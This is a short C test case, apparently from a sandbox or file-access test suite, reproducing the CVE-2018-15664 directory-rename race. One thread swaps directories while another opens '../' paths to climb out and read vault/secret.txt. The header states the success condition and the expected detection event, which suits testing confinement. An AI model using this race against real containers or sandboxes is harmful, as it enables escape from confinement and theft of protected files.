/* technique: climbs out of a directory that another thread moves
 * source: path_resolution(7); CVE-2018-15664 (docker cp)
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * races: 2
 * event: FileOpenReadOnly
 */
#include "attack.h"
#include "race.h"

static void swap(bool forbidden)
{
	rename(forbidden ? "a/b" : "vault-side/b", forbidden ? "vault-side/b" : "a/b");
}

static void attempt(void)
{
	mkdir("a", 0700);
	mkdir("a/b", 0700);
	mkdir("vault-side", 0700);
	show_path_quietly("a/b/../../vault/secret.txt");
	show_path_quietly("a/b/../vault/../../vault/secret.txt");
}

int main(void)
{
	return race(swap, attempt);
}
